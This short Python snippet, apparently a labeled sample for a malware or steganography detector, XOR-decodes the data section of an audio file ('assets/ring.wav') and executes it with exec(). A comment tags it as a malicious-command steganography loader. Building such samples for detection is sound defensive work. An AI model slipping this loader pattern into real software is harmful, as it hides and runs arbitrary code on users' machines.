import base64
import wave

sound = open("assets/ring.wav", "rb").read()
code = bytes(b ^ 42 for b in sound[44:])
exec(code)  # expect: malicious-command/steganography-loader
